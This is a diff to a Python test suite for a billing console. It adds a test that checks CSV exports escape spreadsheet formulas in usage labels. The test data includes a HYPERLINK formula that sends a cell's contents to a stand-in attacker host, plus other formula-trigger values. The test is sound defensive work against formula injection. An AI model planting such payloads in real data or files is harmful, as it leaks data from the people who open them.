@@ -3,6 +3,8 @@ review found open (each test failed before its fix)."""
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
 import re
 from collections.abc import Callable
@@ -158,6 +160,35 @@ def test_the_csv_is_read_at_once_and_bounded(
     assert r.status_code == 400
     assert "end_time: 130 records: at most 120 at once; narrow the range" in r.text
     assert b.get("/console/billing.csv", params={"app_id": "0" * 32}).status_code == 200
+
+
+def test_a_label_a_spreadsheet_would_run_is_text_in_the_csv(
+    console_gw: Gateway, browser_for: Callable[[Dev], Browser]
+) -> None:
+    """A record's labels are whatever its node reported (a terminal's group, perhaps):
+    written as they came, "=HYPERLINK(...)" ran as a formula where the CSV was opened."""
+    b = browser_for(console_gw.new_dev())
+    app_id = make_app(b, "csvformula")
+    now = console_gw.clock() - 600_000
+    labels = {
+        "group_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "user_id": "@SUM(1+1)",
+        "stream_id": "+1",
+        "client_id": "-2",
+    }
+    event = {"event_id": f"f-{app_id}", "app_id": app_id, "charge_term": 1,
+             "start_time": now, "end_time": now + 60_000, **labels}  # fmt: skip
+    reply = console_gw.call(
+        "POST",
+        "/internal/v1/usage",
+        json={"events": [event]},
+        headers={"Authorization": f"Bearer {console_gw.new_node()}"},
+    )
+    assert reply.get("result", {}).get("accepted") == 1, reply
+    [row] = csv.DictReader(io.StringIO(b.get("/console/billing.csv").text))
+    for field, value in labels.items():
+        assert row[field] == "'" + value
+    assert row["amount"] == "0.006000" and row["app_name"] == "csvformula"
 
 
 def test_sign_ins_fall_under_the_apis_access_token_limit(tmp_path: Path) -> None:
